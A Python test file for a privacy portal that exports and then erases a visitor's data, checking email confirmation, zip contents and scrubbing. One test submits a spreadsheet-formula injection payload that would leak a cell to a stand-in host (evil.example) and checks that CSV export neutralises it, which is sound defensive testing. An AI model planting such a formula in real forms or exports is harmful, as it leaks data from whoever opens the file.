"""A visitor gets a copy of their data, then has it erased, through the portal and a real SMTP server."""

from __future__ import annotations

import csv
import io
import json
import zipfile

from sqlalchemy import func, select

from landform.consent.models import ConsentRecord
from landform.core.mail import EmailMessage
from landform.crm_sink.models import Activity, Contact, Submission
from landform.privacy.models import PrivacyRequest, RequestStatus
from tests.conftest import wait_for
from tests.consent.helpers import consent_form, contact_by_email, make_purpose, submit
from tests.privacy.conftest import code_in, link_in, rows_mentioning

EMAIL = "annelies.verhoeven@example.org"
FIRST, LAST = "Annelies", "Verhoeven"


def _counts(db, tenant_id) -> dict[str, int]:
    db.expire_all()
    return {
        model.__tablename__: db.execute(
            select(func.count(model.id))
            .where(model.tenant_id == tenant_id)
            .execution_options(all_tenants=True)
        ).scalar_one()
        for model in (Submission, Contact, Activity, ConsentRecord)
    }


def _ask(client, slug: str, kind: str, address: str = EMAIL, **extra: str):
    return client.post(f"/privacy/{slug}/requests?lang=en", data={"email": address, "kind": kind, **extra})


def _confirm_by_link(client, inbox, address: str = EMAIL, count: int = 1) -> str:
    message = inbox.wait(address, "Confirm your privacy request", count)
    link = link_in(message, "/privacy/")
    page = client.get(link)
    assert page.status_code == 200 and "Yes, this was me" in page.text
    token = link.split("token=", 1)[1].split("&", 1)[0]
    slug = link.split("/")[2]
    done = client.post(f"/privacy/{slug}/verify?lang=en", data={"token": token})
    assert done.status_code == 200, done.text
    assert "your request is confirmed" in done.text
    return token


def test_a_visitor_gets_a_copy_then_has_everything_erased(client, db, owner, inbox):
    purpose, text = make_purpose(db, owner)
    form = consent_form(db, owner, purpose, text)
    sent = submit(client, form, {"first_name": FIRST, "last_name": LAST, "email": EMAIL, "newsletter": "on"})
    assert sent.status_code == 201, sent.text
    contact = wait_for(lambda: contact_by_email(db, EMAIL))
    wait_for(lambda: _counts(db, owner.tenant_id)["activity"] == 1)
    before = _counts(db, owner.tenant_id)
    assert before == {"submission": 1, "contact": 1, "activity": 1, "consent_record": 1}

    # A copy: ask, confirm by the link (opening it confirms nothing), download.
    asked = _ask(client, "acme", "access")
    assert asked.status_code == 200 and "Check your e-mail" in asked.text
    assert not client.cookies, "the portal sets no cookie"
    message = inbox.wait(EMAIL, "Confirm your privacy request")
    client.get(link_in(message, "/privacy/acme/verify"))
    db.expire_all()
    assert db.execute(select(PrivacyRequest.status)).scalar_one() == RequestStatus.UNVERIFIED
    token = _confirm_by_link(client, inbox)
    ready = inbox.wait(EMAIL, "Your data from Acme Zonwering is ready")
    download = client.get(link_in(ready, "/privacy/acme/download"))
    assert download.status_code == 200
    assert download.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(download.content))
    assert {"data.json", "summary.html", "contact.csv", "submissions.csv", "consent_records.csv"} <= set(
        archive.namelist()
    )
    data = json.loads(archive.read("data.json"))
    assert data["contact"][0]["email"] == EMAIL
    assert (data["contact"][0]["first_name"], data["contact"][0]["last_name"]) == (FIRST, LAST)
    assert data["submissions"][0]["answers"]["email"] == EMAIL
    assert data["activities"][0]["kind"] == "form_submission"
    assert data["consent_records"][0]["text_shown"] == text.text["en"] or data["consent_records"][0]["given"]
    assert FIRST in archive.read("summary.html").decode()
    assert EMAIL in archive.read("contact.csv").decode()

    # The verification link works once.
    again = client.post("/privacy/acme/verify", data={"token": token})
    assert again.status_code == 400 and "does not work" in again.text

    # Erasure, confirmed with the six-digit code this time.
    assert _ask(client, "acme", "erasure").status_code == 200
    message = inbox.wait(EMAIL, "Confirm your privacy request", 2)
    confirmed = client.post(
        "/privacy/acme/code?lang=en", data={"email": EMAIL.upper(), "code": code_in(message)}
    )
    assert confirmed.status_code == 200, confirmed.text
    done = inbox.wait(EMAIL, "is done")
    assert "erased" in done.get_body(("plain",)).get_content()
    wait_for(lambda: not rows_mentioning(db, EMAIL, FIRST, LAST))
    assert rows_mentioning(db, EMAIL, FIRST, LAST) == []
    assert rows_mentioning(db, "verhoeven") == []
    assert _counts(db, owner.tenant_id) == before
    db.expire_all()
    erased = db.get_one(Contact, contact.id)
    assert erased.email_key.startswith("erased-")
    # The consent record stays as proof of what was agreed, without the person.
    record = db.execute(select(ConsentRecord).execution_options(all_tenants=True)).scalar_one()
    assert (record.given, record.ip_hash, record.user_agent_family) == (True, "", "")
    # The export is gone with everything else.
    assert client.get(link_in(ready, "/privacy/acme/download")).status_code == 400
    # And the e-mails: every one to the person was emptied once sent.
    assert all(
        not m.recipient or m.recipient.startswith("erased-")
        for m in db.execute(select(EmailMessage)).scalars()
    )


def test_it_writes_what_a_visitor_typed_as_text_not_as_a_spreadsheet_formula(client, db, owner, inbox):
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    purpose, text = make_purpose(db, owner)
    form = consent_form(db, owner, purpose, text)
    sent = submit(client, form, {"first_name": "+31 6 12345678", "last_name": formula, "email": EMAIL})
    assert sent.status_code == 201, sent.text
    wait_for(lambda: contact_by_email(db, EMAIL))
    assert _ask(client, "acme", "access").status_code == 200
    _confirm_by_link(client, inbox)
    ready = inbox.wait(EMAIL, "Your data from Acme Zonwering is ready")
    archive = zipfile.ZipFile(io.BytesIO(client.get(link_in(ready, "/privacy/acme/download")).content))

    (contact,) = csv.DictReader(io.StringIO(archive.read("contact.csv").decode()))
    assert contact["last_name"] == "'" + formula
    assert contact["first_name"] == "'+31 6 12345678"
    for name in archive.namelist():
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(io.StringIO(archive.read(name).decode())) for cell in row]
            assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    # The JSON copy keeps exactly what was typed.
    assert json.loads(archive.read("data.json"))["contact"][0]["last_name"] == formula
